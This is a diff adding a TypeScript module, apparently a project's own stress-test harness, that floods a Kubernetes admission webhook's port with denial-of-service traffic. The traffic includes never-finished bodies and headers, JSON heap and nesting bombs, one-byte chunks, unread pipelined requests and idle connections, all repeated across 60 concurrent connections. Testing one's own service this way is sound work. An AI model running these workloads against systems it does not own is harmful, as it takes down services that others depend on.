@@ -1,0 +1,138 @@
+// SPDX-License-Identifier: Apache-2.0
+
+/** What each connection of an attack on the webhook's port sends, which tries to take its memory or its time. */
+
+import { randomBelow } from "../../../pkg/base/mod.ts";
+import type { Random } from "../../../pkg/base/mod.ts";
+import type { Way } from "../attack.ts";
+import { pause, sideBySide } from "../wire/repeat.ts";
+
+import { openSender } from "./sender.ts";
+import type { Sender } from "./sender.ts";
+
+/** Connections that are open at the same time. */
+const CONNECTIONS = 60;
+
+/** Of one request's body: nearly as much as the webhook takes. */
+const BODY_BYTES = 3_500_000;
+
+/** How long one that was refused waits for each that there are, or the attack's own process would be what it exhausts. */
+const MAX_PAUSE_MS = 0.4;
+
+/** Makes what the connections send, once; and then what each does until it is refused or has no more to do. */
+type Work = (random: Random) => (sender: Sender) => Promise<unknown>;
+
+const PIECE = 65_536;
+
+const WORK = {
+  /** Bodies of the largest size, of which the last byte never comes. */
+  "half-bodies": () => {
+    const [head, body] = [post(`content-length: ${BODY_BYTES}`), Buffer.alloc(BODY_BYTES - 1, "x")];
+    return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
+  },
+  /** Empty objects: two bytes and a comma on the wire, and an object of the heap each. */
+  "many-values": () => json(filled('{"a":[', "{},", "{}]}", BODY_BYTES)),
+  /** An object each of whose keys is another. */
+  "many-keys": (random) => {
+    const base = randomBelow(random, 1_000_000);
+    const keys = Array.from({ length: Math.floor(BODY_BYTES / 14) }, (_, index) => `"${base + index}":{}`);
+    return json(Buffer.from(`{${keys.join()}}`));
+  },
+  /** Lists in lists. */
+  "deep-json": () => json(Buffer.alloc(BODY_BYTES, "[")),
+  /** Texts that are long, so that nothing is too many, in reviews that are whole. */
+  "whole-reviews": () => json(Buffer.from(JSON.stringify(review({ a: "x".repeat(BODY_BYTES) })))),
+  /** Each byte of the body in a chunk by itself. */
+  "small-chunks": () => {
+    const [head, body] = [
+      post("transfer-encoding: chunked"),
+      Buffer.from("1\r\nx\r\n".repeat(BODY_BYTES / 6)),
+    ];
+    return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
+  },
+  /** Refusals that are longer than what they refuse, and that are not read. */
+  "long-refusals": () => {
+    const count = Math.min(BODY_BYTES / 20, 20_000);
+    const keys = Array.from({ length: count }, (_, index) => [`perdure.dev/${index}`, ""]);
+    const send = json(Buffer.from(JSON.stringify(review(Object.fromEntries(keys)))));
+    return async (sender) => {
+      sender.stopReading();
+      for (let sent = 0; sent < 20; sent++) if (!(await send(sender))) return;
+    };
+  },
+  /** Requests that do not wait for the answers of those before, which are not read. */
+  pipelined: () => {
+    const requests = Buffer.from("GET /livez HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000));
+    return async (sender) => {
+      sender.stopReading();
+      for (let count = 0; count < 100; count++) if (!(await sender.send(requests))) return;
+    };
+  },
+  /** Headers that do not end. */
+  "half-headers": () => async (sender) => {
+    await sender.send("POST /admit HTTP/1.1\r\nhost: x\r\n");
+    for (let count = 0; count < 15; count++) {
+      if (!(await sender.send(`x-${count}: ${"x".repeat(1_000)}\r\n`))) return;
+    }
+  },
+  /** A handshake, and not one byte more. */
+  silent: () => () => Promise.resolve(),
+  /** Not even a handshake. */
+  "half-handshakes": () => () => Promise.resolve(),
+} as const satisfies Record<string, Work>;
+
+/** What so many connections at once do again and again. */
+export function webhookWay(name: keyof typeof WORK, connections = CONNECTIONS): Way {
+  const make: Work = WORK[name];
+  return async (target, tools) => {
+    const { random, signal } = tools;
+    const work = make(random);
+    await sideBySide(connections, async () => {
+      while (!signal.aborted) {
+        const sender = await openSender(target, tools, name !== "half-handshakes");
+        if (sender === undefined) await pause(random() * MAX_PAUSE_MS * connections, signal);
+        else {
+          await work(sender);
+          await sender.closed;
+        }
+      }
+    });
+  };
+}
+
+function post(...headers: readonly string[]): string {
+  return ["POST /admit HTTP/1.1", "host: x", "content-type: application/json", ...headers, "\r\n"].join(
+    "\r\n",
+  );
+}
+
+function json(body: Buffer): (sender: Sender) => Promise<boolean> {
+  const head = post(`content-length: ${body.length}`);
+  return async (sender) => (await sender.send(head)) && sendInPieces(sender, body);
+}
+
+/** False if the connection was closed before. */
+async function sendInPieces(sender: Sender, bytes: Buffer): Promise<boolean> {
+  for (let from = 0; from < bytes.length; from += PIECE) {
+    if (!(await sender.send(bytes.subarray(from, from + PIECE)))) return false;
+  }
+  return true;
+}
+
+/** `head`, as many of `part` as fit, and `tail`. */
+function filled(head: string, part: string, tail: string, bytes: number): Buffer {
+  const count = Math.floor((bytes - head.length - tail.length) / part.length);
+  return Buffer.from(head + part.repeat(Math.max(count, 0)) + tail);
+}
+
+function review(annotations: Readonly<Record<string, string>>): object {
+  return {
+    apiVersion: "admission.k8s.io/v1",
+    request: {
+      uid: "1",
+      resource: { group: "serving.knative.dev", resource: "services" },
+      operation: "CREATE",
+      object: { metadata: { annotations }, spec: { template: { spec: {} } } },
+    },
+  };
+}
